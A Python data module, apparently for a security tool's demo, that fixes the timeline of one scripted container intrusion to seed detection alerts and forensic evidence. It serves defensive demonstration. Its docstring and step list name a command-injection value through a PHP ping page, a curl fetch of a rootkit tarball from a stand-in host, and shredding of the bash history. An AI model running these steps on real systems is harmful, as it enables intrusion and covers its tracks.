"""The attack of the demo scenario, told once.

PRODUCT.md's demo and the seed presentation's "New Timeline": in the ``store-frontend-ping-php``
pod, as ``www-data``, a shell started through the PHP ping page (``sh -c "ping -c 1 …; bash"``)
runs ``bash``, and that bash runs ``ls``, ``curl`` of a base64-encoded rootkit tarball piped
into ``base64 -d``, ``rm -rf`` of an earlier copy, ``tar xvfz`` (which runs ``gzip -d`` itself,
as tar does for ``z``) and ``shred -f /var/www/.bash_history`` — eight commands in 0.4 seconds,
at the seed's own relative times.

Every source of the demo is derived from this module, so they tell one story with one set of
times (to the nanosecond, as the kernel saw each ``execve``): Falco's alerts
(``demo_detections``), Sysdig Secure's activity-audit command records and runtime policy events
(``sysdig_demo``), and the evidence (``evidence.demo``): the 20-second capture Sysdig's policy
took around the shell-history event (5 s before, 15 s after) — built in code, see
``evidence.scap_writer`` —, the Falco alert export and the node's journal. ``load_demo`` writes
the incident's summary from it. Pure data, no Django.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

NODE = "demo-k8s-node-2"
NAMESPACE = "store"
POD = "store-frontend-ping-php"
POD_UID = "3b1c9e52-7d0a-4f61-9a2e-5c8d1f0b7e43"
CONTAINER_ID = "5e2b71f4c9d3"
CONTAINER_FULL_ID = (
    CONTAINER_ID + "8a0e6b1d27c4f9e3a5b0d8c6f1e2a7b4c9d0e3f6a1b8c5d2e7f4"
)  # 64 hex digits
CONTAINER_NAME = "store-frontend-ping-php"
IMAGE_REPO = "registry.demo.example.gov/store/store-frontend-ping-php"
IMAGE_TAG = "1.4.2"
USER, UID = "www-data", 33
CWD = "/var/www/html"
TTY = 34816
TARBALL_URL = "http://198.51.100.23/kit/rk.tar.gz.b64"
TARBALL = "rk-master.tar.gz"
TARBALL_PATH = f"{CWD}/{TARBALL}"
HISTORY = "/var/www/.bash_history"
ENV = ("PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/var/www", "PWD=/var/www/html")

# The commands the incident's summary names, in the order they ran.
PROMISED = ("bash", "ls", "curl", "base64 -d", "tar xvfz", "gzip -d", f"shred -f {HISTORY}")

# Sysdig Secure's capture policy (the seed's runtime-policy screen): 5 s before the event,
# 15 s after.
CAPTURE_BEFORE = timedelta(seconds=5)
CAPTURE_AFTER = timedelta(seconds=15)

PHP_FPM_PID = 7410  # the php-fpm worker serving the ping page
SHELL_PID = 7467  # the sh it started: sh -c "ping -c 1 127.0.0.1; bash"
BASH_PID = 7474


@dataclass(frozen=True)
class Step:
    """One command: ``offset_ns`` after the first, its process and its parent."""

    offset_ns: int
    pid: int
    ppid: int
    comm: str
    exe: str
    args: tuple[str, ...] = ()

    @property
    def cmdline(self) -> str:
        return " ".join((self.comm, *self.args))

    @property
    def parent(self) -> str:
        return PARENTS[self.ppid]


PARENTS = {PHP_FPM_PID: "php-fpm", SHELL_PID: "sh", BASH_PID: "bash", 7496: "tar"}

# The seed's timeline (12:18:10.86878 … 12:18:11.25964), made relative to the first command.
STEPS = (
    Step(0, BASH_PID, SHELL_PID, "bash", "/bin/bash"),
    Step(10_590_000, 7475, BASH_PID, "ls", "/bin/ls"),
    Step(15_670_000, 7476, BASH_PID, "curl", "/usr/bin/curl", ("-s", TARBALL_URL)),
    Step(16_840_000, 7477, BASH_PID, "base64", "/usr/bin/base64", ("-d",)),
    Step(231_240_000, 7495, BASH_PID, "rm", "/bin/rm", ("-rf", "rk-master/")),
    Step(244_750_000, 7496, BASH_PID, "tar", "/bin/tar", ("xvfz", TARBALL)),
    Step(249_100_000, 7497, 7496, "gzip", "/bin/gzip", ("-d",)),
    Step(390_860_000, 7498, BASH_PID, "shred", "/usr/bin/shred", ("-f", HISTORY)),
)
STEP = {s.comm: s for s in STEPS}

# What shred did after it started (Falco sees each system call): it opened the history for
# writing, then removed its name.
SHRED_OPEN_NS = STEP["shred"].offset_ns + 212_000
SHRED_UNLINK_NS = STEP["shred"].offset_ns + 1_374_000

_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


def to_ns(when: datetime) -> int:
    delta = when - _EPOCH
    return (delta.days * 86_400 + delta.seconds) * 1_000_000_000 + delta.microseconds * 1000


def start_ns(now: datetime) -> int:
    """When ``bash`` ran, in ns since the epoch: six hours and four minutes before ``now``,
    at the seed's second and fraction (…:10.86878)."""
    return to_ns(now - timedelta(hours=6, minutes=4)) + 10_868_780_000


def at(now: datetime, offset_ns: int = 0) -> datetime:
    """The instant ``offset_ns`` after the first command (microseconds: Python's limit)."""
    ns = start_ns(now) + offset_ns
    return _EPOCH + timedelta(microseconds=ns // 1000)


def step_ns(now: datetime, step: Step) -> int:
    return start_ns(now) + step.offset_ns


def capture_window(now: datetime) -> tuple[int, int]:
    """(first ns, last ns) of the capture: 5 s before Sysdig's shell-history event, 15 s
    after."""
    trigger = start_ns(now) + SHRED_UNLINK_NS
    return (
        trigger - int(CAPTURE_BEFORE.total_seconds() * 1e9),
        trigger + int(CAPTURE_AFTER.total_seconds() * 1e9),
    )
